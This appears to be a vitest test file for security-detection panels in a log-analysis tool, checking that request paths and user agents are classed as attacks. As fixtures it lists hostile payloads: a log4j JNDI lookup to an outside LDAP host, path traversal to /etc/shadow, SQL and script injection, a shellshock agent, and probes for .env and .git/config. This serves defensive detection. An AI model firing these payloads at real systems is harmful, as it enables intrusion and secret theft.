import { matchKql, parseKql } from '@weir/query'
import { anEvent, hostileTexts } from '@weir/testing'
import { describe, expect, it } from 'vitest'
import { now, rowsOver } from '../../test/rows-of.ts'
import { agentSignatures, scanners } from '../panels/security/agent-signatures.ts'
import { containing } from '../panels/security/containing.ts'
import { pathSignatures } from '../panels/security/path-signatures.ts'
import { securitySuspiciousAgents } from '../panels/security/suspicious-agents.ts'
import { securitySuspiciousPaths } from '../panels/security/suspicious-paths.ts'

const attacks: readonly [string, string][] = [
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attacker's text
  ['/?x=${jndi:ldap://203.0.113.9/a}', 'log4j lookup'],
  ['/static/../../etc/shadow', 'path traversal'],
  ['/scripts/..%5c..%5cwinnt/win.ini', 'path traversal'],
  ['/static/..\\..\\win.ini', 'path traversal'],
  ["/item?id=1'+or+1=1", 'SQL injection'],
  ['/item?id=1%20UNION%20SELECT%20password', 'SQL injection'],
  ['/search?q=<script>alert(1)</script>', 'script injection'],
  ['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 'command injection'],
  ['/.env', 'secrets'],
  ['/.git/config', 'secrets'],
  ['/wp-login.php', 'administration'],
  ['/db.sql', 'backup'],
]
const agents: readonly [string, string][] = [
  ['() { :; }; /bin/bash -c id', 'shellshock'],
  ['Mozilla/5.00 (Nikto/2.1.6)', 'scanner'],
  ['Fuzz Faster U Fool v2.1', 'scanner'],
  ['<script>alert(1)</script>', 'script injection'],
  ["x' or 1=1 --", 'SQL injection'],
]
const harmless = ['/', '/cart?id=1', '/products/..', '/docs/selecting-a-union', '/a.b', '/environment']

describe('signatures', () => {
  it.each(attacks)('know the request %s', async (target, signature) => {
    const [, query] = target.split('?')
    const event = anEvent({
      'url.original': target,
      'http.response.status_code': 404,
      ...(query === undefined ? {} : { 'url.query': query }),
    })
    const { rows } = await rowsOver([event], securitySuspiciousPaths)
    expect(rows).toMatchObject([{ 'url.original': target, signature, count: 1 }])
  })

  it.each(agents)('know the agent %s', async (agent, signature) => {
    const name = scanners.find((each) => agent.includes(each))
    const event = anEvent({
      'user_agent.original': agent,
      ...(name === undefined ? {} : { 'weir.client.name': name }),
    })
    const { rows } = await rowsOver([event], securitySuspiciousAgents)
    expect(rows).toMatchObject([{ 'user_agent.original': agent, signature }])
  })

  it('that are only looked for count where they are asked for in vain, what leaks or harms counts always', async () => {
    const answered = attacks.map(([target]) =>
      anEvent({ 'url.original': target, 'url.query': 'x', 'http.response.status_code': 200 }),
    )
    const { rows } = await rowsOver(answered, securitySuspiciousPaths)
    const found = new Set(rows.map((row) => row['signature']))
    expect([...found]).toEqual(expect.arrayContaining(['secrets', 'path traversal', 'SQL injection']))
    expect(found.has('administration') || found.has('backup')).toBe(false)
  })

  it('leave the ordinary alone', async () => {
    const requests = harmless.map((target) =>
      anEvent({ 'url.original': target, 'user_agent.original': 'Firefox', 'http.response.status_code': 404 }),
    )
    expect((await rowsOver(requests, securitySuspiciousPaths)).rows).toEqual([])
    expect((await rowsOver(requests, securitySuspiciousAgents)).rows).toEqual([])
  })

  it('have names of their own', () => {
    for (const list of [agentSignatures, pathSignatures])
      expect(new Set(list.map(({ name }) => name)).size).toBe(list.length)
  })

  it('find any text as it is, whatever it means to KQL', () => {
    for (const text of hostileTexts.filter((each) => each.length < 1000)) {
      const filter = parseKql(containing('url.original', [text]), { now, tz: 'UTC' })
      expect(matchKql(filter, { 'url.original': `/a${text}b` })).toBe(true)
      expect(matchKql(filter, { 'url.original': '/a' })).toBe(false)
    }
  })
})
